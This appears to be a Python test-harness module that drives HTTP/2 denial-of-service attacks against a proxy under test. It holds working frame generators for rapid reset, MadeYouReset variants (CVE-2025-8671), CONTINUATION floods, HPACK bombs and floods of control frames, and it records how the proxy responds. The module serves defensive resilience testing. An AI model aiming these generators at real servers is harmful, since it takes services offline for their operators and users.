"""Attackers on one HTTP/2 connection, in a process of their own, so that they do not slow down the test that looks on.

    python -m peers.http2_attack

reads a line with `{"kind": ..., "port": ..., "ca": ..., "host": ..., "seconds": ..., "reads": ...}` for each, says `ready` once
it is connected, begins when it gets another line, and prints how that ended as JSON.
"""

from __future__ import annotations

import itertools
import json
import select
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from hpack.hpack import encode_integer
from hyperframe.frame import RstStreamFrame

from .blocking import frames
from .http2_frames import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, MAX_WINDOW, PADDED, PING, PREFACE, PRIORITY,
    PRIORITY_UPDATE, SETTINGS, Frames, block, frame, literal, reset, settings, window_update,
)
from .raw_websocket import BINARY

INITIAL_WINDOW, WHOLE = 4, END_HEADERS | END_STREAM
Attack = Callable[[str], Iterator[bytes]]
#: By name. Each yields what is to be sent, for ever or until it has sent all; an empty piece is a pause.
ATTACKS: dict[str, Attack] = {}


def attack(make: Attack) -> Attack:
    ATTACKS[make.__name__.replace("_", "-")] = make
    return make


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def get(host: str, path: str = "/") -> bytes:
    """A request in a few bytes."""
    way = b"\x84" if path == "/" else literal(":path", path)
    return b"\x82\x87" + way + literal(":authority", host)


def post(host: str, *fields: tuple[str, str], path: str = "/") -> bytes:
    return b"\x83\x87" + literal(":path", path) + literal(":authority", host) + block(*fields)


# Streams that are reset, by the client and by us.


@attack
def rapid_reset(host: str) -> Iterator[bytes]:
    head = get(host)
    for stream in streams():
        yield frame(HEADERS, stream, head, WHOLE) + reset(stream)


@attack
def rapid_reset_of_uploads(host: str) -> Iterator[bytes]:
    head = post(host)
    for stream in streams():
        yield frame(HEADERS, stream, head, END_HEADERS) + frame(DATA, stream, b"x" * 100) + reset(stream, 0)


def made_you(name: str, path: str, *pieces: Callable[[int, str], bytes]) -> None:
    """MadeYouReset: a request that is fine, and then something for which we have to reset its stream (CVE-2025-8671)."""
    def run(host: str) -> Iterator[bytes]:
        head = get(host, path)
        for stream in streams():
            yield frame(HEADERS, stream, head, WHOLE) + b"".join(piece(stream, host) for piece in pieces)

    ATTACKS[f"made-you-reset-{name}"] = run


made_you("window-of-nothing", "/", lambda stream, _: window_update(stream, 0))
made_you("window-overflow", "/", lambda stream, _: window_update(stream, MAX_WINDOW))
made_you("data-behind-end", "/hang", lambda stream, _: frame(DATA, stream, b"x" * 100))
made_you("headers-behind-end", "/hang", lambda stream, host: frame(HEADERS, stream, get(host), WHOLE))
made_you("priority-length", "/", lambda stream, _: frame(PRIORITY, stream, b"abcd"))
made_you("priority-of-itself", "/", lambda stream, _: frame(PRIORITY, stream, stream.to_bytes(4, "big") + b"\0"))


def made_you_by_request(name: str, make: Callable[[int, str], bytes]) -> None:
    def run(host: str) -> Iterator[bytes]:
        for stream in streams():
            yield make(stream, host)

    ATTACKS[f"made-you-reset-{name}"] = run


made_you_by_request("malformed", lambda stream, host: frame(HEADERS, stream, post(host, ("X", "1")), WHOLE))
made_you_by_request("content-length", lambda stream, host: (
    frame(HEADERS, stream, post(host, ("content-length", "200")), END_HEADERS) + frame(DATA, stream, b"x" * 201)))
made_you_by_request("trailers", lambda stream, host: (
    frame(HEADERS, stream, post(host), END_HEADERS) + frame(HEADERS, stream, block(("x-a", "1")), END_HEADERS)))
made_you_by_request("stream-window", lambda stream, host: (
    frame(HEADERS, stream, post(host, path="/hang"), END_HEADERS) + frame(DATA, stream, b"x" * 16_384)
    + frame(DATA, stream, b"x" * 100)))


@attack
def streams_opened_and_left(host: str) -> Iterator[bytes]:
    head = get(host, "/hang")
    for stream in itertools.islice(streams(), 100_000):
        yield frame(HEADERS, stream, head, WHOLE)


@attack
def uploads_opened_and_left(host: str) -> Iterator[bytes]:
    head = post(host, path="/hang")
    for stream in itertools.islice(streams(), 100_000):
        yield frame(HEADERS, stream, head, END_HEADERS)


# Header blocks.


@attack
def continuation_flood(host: str) -> Iterator[bytes]:
    yield frame(HEADERS, 1, get(host), END_STREAM)
    while True:
        yield frame(CONTINUATION, 1)


@attack
def continuation_flood_by_bytes(host: str) -> Iterator[bytes]:
    yield frame(HEADERS, 1, get(host), END_STREAM)
    while True:
        yield frame(CONTINUATION, 1, literal("x-a", "v" * 16_000))


@attack
def half_a_block(host: str) -> Iterator[bytes]:
    yield frame(HEADERS, 1, get(host), END_STREAM)


@attack
def hpack_bomb_by_count(host: str) -> Iterator[bytes]:
    """A byte is a field of the static table."""
    for stream in streams():
        yield frame(HEADERS, stream, get(host) + b"\x90" * 16_000, WHOLE)


@attack
def hpack_bomb_by_table(host: str) -> Iterator[bytes]:
    """A byte is a field of 4,000 bytes."""
    entry = b"\x40" + encode_integer(3, 7) + b"x-b" + encode_integer(3_900, 7) + b"v" * 3_900
    for stream in streams():
        yield frame(HEADERS, stream, get(host) + entry + b"\xbe" * 10_000, WHOLE)


@attack
def too_large_again_and_again(host: str) -> Iterator[bytes]:
    """Each beyond the limits, none so far that it ends the connection."""
    for stream in streams():
        yield frame(HEADERS, stream, get(host) + b"\x90" * 300, WHOLE)


@attack
def cookie_crumbs(host: str) -> Iterator[bytes]:
    """A hundred thousand, a byte each."""
    crumb = b"\x40" + encode_integer(6, 7) + b"cookie" + encode_integer(1, 7) + b"a"
    for stream in itertools.islice(streams(), 7):
        yield frame(HEADERS, stream, get(host) + crumb + b"\xbe" * 15_000, WHOLE)


@attack
def cookie_crumbs_in_one_block(host: str) -> Iterator[bytes]:
    crumbs = b"\x0f\x11\x01a" * 4_000
    yield frame(HEADERS, 1, get(host), END_STREAM)
    for _ in range(25):
        yield frame(CONTINUATION, 1, crumbs)


@attack
def heads_within_limits(host: str) -> Iterator[bytes]:
    """As large as they may be, on as many streams as there may be, of a hundred bytes each, and held."""
    entry = b"\x40" + encode_integer(3, 7) + b"x-b" + encode_integer(3_900, 7) + b"v" * 3_900
    head = get(host, "/hang")
    for stream in itertools.islice(streams(), 100):
        yield frame(HEADERS, stream, head + (entry if stream == 1 else b"\xbe") + b"\xbe" * 14, WHOLE)


# Frames that carry nothing, or next to nothing.


def flood(name: str, *pieces: Callable[[str], bytes] | bytes, first: Callable[[str], bytes] | None = None) -> None:
    def run(host: str) -> Iterator[bytes]:
        if first:
            yield first(host)
        one = b"".join(piece if isinstance(piece, bytes) else piece(host) for piece in pieces)
        while True:
            yield one * max(1, 4_000 // len(one))

    ATTACKS[name] = run


def upload(host: str) -> bytes:
    return frame(HEADERS, 1, post(host), END_HEADERS)


def hanging(host: str) -> bytes:
    return frame(HEADERS, 1, get(host, "/hang"), WHOLE)


flood("empty-data", frame(DATA, 1), first=upload)
flood("tiny-data", frame(DATA, 1, b"x"), first=upload)
flood("padding-only", frame(DATA, 1, b"\xff" + b"\0" * 255, PADDED), first=upload)
flood("padding-and-a-byte", frame(DATA, 1, b"\xff" + b"x" + b"\0" * 255, PADDED), first=upload)
flood("settings", settings())
flood("settings-of-many-entries", settings(*[(INITIAL_WINDOW, 1_000)] * 33))
flood("settings-that-change-every-window", settings((INITIAL_WINDOW, 0), (INITIAL_WINDOW, 65_535)), first=lambda host: b"".join(
    frame(HEADERS, stream, get(host, "/hang"), WHOLE) for stream in itertools.islice(streams(), 100)))
flood("settings-acknowledgements", frame(SETTINGS, flags=ACK))
flood("pings", frame(PING, payload=b"p" * 8))
flood("ping-acknowledgements", frame(PING, payload=b"p" * 8, flags=ACK))
flood("priorities", frame(PRIORITY, 1, b"\0\0\0\3\7"))
flood("priority-updates", frame(PRIORITY_UPDATE, 0, b"\0\0\0\1u=1"), first=hanging)
flood("priority-updates-of-idle-streams", frame(PRIORITY_UPDATE, 0, b"\0\0\x10\1u=1, i"))
flood("window-updates", window_update(0, 1))
flood("window-updates-of-a-stream", window_update(1, 1), first=hanging)
flood("unknown-frames", frame(0xEE, 0, b"what"))
flood("goodbyes", frame(GOAWAY, 0, b"\0" * 8))
ATTACKS["unread-pings"] = ATTACKS["unread-acknowledgements"] = ATTACKS["pings"]


# Windows that hold responses, and what overflows.


def held(name: str, window: int, count: int, size: int, again: Callable[[int], bytes] | None = None) -> None:
    """Responses of `size` bytes on so many streams, and `again` for each of them every 50 ms."""
    def run(host: str) -> Iterator[bytes]:
        numbers = list(itertools.islice(streams(), count))
        yield settings((INITIAL_WINDOW, window))
        yield b"".join(frame(HEADERS, stream, get(host, f"/{size}"), WHOLE) for stream in numbers)
        while True:
            yield b""
            if again:
                yield b"".join(again(stream) for stream in numbers)

    ATTACKS[name] = run


held("windows-of-nothing", 0, 100, 1_000_000)
held("windows-of-a-byte", 1, 100, 1_000_000, lambda stream: window_update(stream, 1))
held("windows-that-come-and-go", 1, 5, 1_000_000, lambda _: settings((INITIAL_WINDOW, 0)) + settings((INITIAL_WINDOW, 1)))
held("connection-window-of-a-byte", MAX_WINDOW, 10, 1_000_000, lambda stream: window_update(0, 1) if stream == 1 else b"")


@attack
def window_overflow_with_parked_streams(host: str) -> Iterator[bytes]:
    for stream in itertools.islice(streams(), 100):
        yield frame(HEADERS, stream, get(host, "/hang"), WHOLE) + window_update(stream, MAX_WINDOW - 65_535)
    yield settings((INITIAL_WINDOW, 65_536))


@attack
def uploads_that_nobody_takes(host: str) -> Iterator[bytes]:
    """A window of each of a hundred streams, for an upstream that reads none of it."""
    head = post(host, path="/hang")
    for stream in itertools.islice(streams(), 100):
        yield frame(HEADERS, stream, head, END_HEADERS) + frame(DATA, stream, b"x" * 16_384) * 3 + frame(
            DATA, stream, b"x" * 16_383)


# What never comes.


@attack
def no_settings(host: str) -> Iterator[bytes]:
    yield b""


@attack
def no_acknowledgement(host: str) -> Iterator[bytes]:
    yield b""


class Attackers:
    """Runs the process, for one attacker after another: connected by `connect`, begun by `begin`, over with `result`."""

    def __init__(self) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-m", "peers.http2_attack"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
            cwd=Path(__file__).parents[1])

    def __enter__(self) -> Attackers:
        return self

    def __exit__(self, *_: object) -> None:
        self.process.kill()
        self.process.wait()

    def connect(self, kind: str, proxy: object, *, host: str, seconds: float, reads: bool = True) -> None:
        self._say(json.dumps({
            "kind": kind, "port": proxy.endpoint.port, "ca": str(proxy.far.ca_file), "host": host,  # type: ignore
            "seconds": seconds, "reads": reads}))
        assert self._line() == "ready\n", "the attacker did not connect"

    def begin(self) -> None:
        self._say("go")

    def result(self) -> dict:
        """`sent` bytes, `gone` the seconds until the connection was over, `code` of GOAWAY, and how many `resets`."""
        return json.loads(self._line())

    def _say(self, line: str) -> None:
        assert self.process.stdin
        self.process.stdin.write(line + "\n")
        self.process.stdin.flush()

    def _line(self) -> str:
        assert self.process.stdout
        return self.process.stdout.readline()


def play(options: dict) -> dict:
    kind, reads = options["kind"], options["reads"]
    preface = {"no-settings": PREFACE}.get(kind, PREFACE + settings())
    client = Frames.connect(
        options["port"], options["ca"], options["host"], preface=preface, receive_buffer=None if reads else 4_096)
    with client:
        if not kind.startswith("no-"):
            client.begin()
        pieces = _batched(ATTACKS[kind](options["host"]))
        print("ready", flush=True)
        sys.stdin.readline()
        begun = time.monotonic()
        sent, gone = _run(client, pieces, begun, begun + options["seconds"], reads)
    goaway = client.goaway()
    return {
        "sent": sent, "gone": gone and gone - begun, "code": goaway and goaway.error_code,
        "resets": sum(isinstance(found, RstStreamFrame) for found in client.received)}


def _batched(pieces: Iterator[bytes]) -> Iterator[bytes]:
    """As many at a time as a record holds; a pause comes alone."""
    batch = bytearray()
    for piece in pieces:
        batch += piece
        if len(batch) >= 16_000 or not piece:
            yield bytes(batch)
            batch.clear()
            if not piece:
                yield b""
    yield bytes(batch)


def _run(
    client: Frames, pieces: Iterator[bytes], begun: float, end: float, reads: bool
) -> tuple[int, float | None]:
    """Sends and takes what comes, until the connection or the time is over."""
    connection, pending, sent, pause = client.tunnel.socket, memoryview(b""), 0, begun
    connection.setblocking(False)
    has_more = True
    while (now := time.monotonic()) < end and client.ended is None:
        while has_more and not pending and now >= pause:
            if (piece := next(pieces, None)) is None:
                has_more = False
            elif piece:
                pending = memoryview(frames(BINARY, client.tunnel.records(piece)))
            else:
                pause = now + 0.05
        wait = min(end, pause) - now if has_more and not pending else end - now
        readable, writable, _ = select.select(
            [connection] if reads or not has_more else [], [connection] if pending else [], [], max(0.001, min(wait, 0.1)))
        try:
            if writable:
                done = connection.send(pending)
                sent, pending = sent + done, pending[done:]
            if readable:
                _take(client)
        except BlockingIOError:
            continue
        except OSError as error:
            # What was said before may still be there.
            while client.ended is None:
                _take(client)
            client.ended = client.ended or str(error)
    return sent, time.monotonic() if client.ended is not None else None


def _take(client: Frames) -> None:
    """Whatever is there now. `Frames.read` sees a blocking socket again."""
    client.tunnel.timeout = 0.001
    while client.read(0.001) is not None:
        pass
    client.tunnel.socket.setblocking(False)


if __name__ == "__main__":
    for line in sys.stdin:
        print(json.dumps(play(json.loads(line))), flush=True)
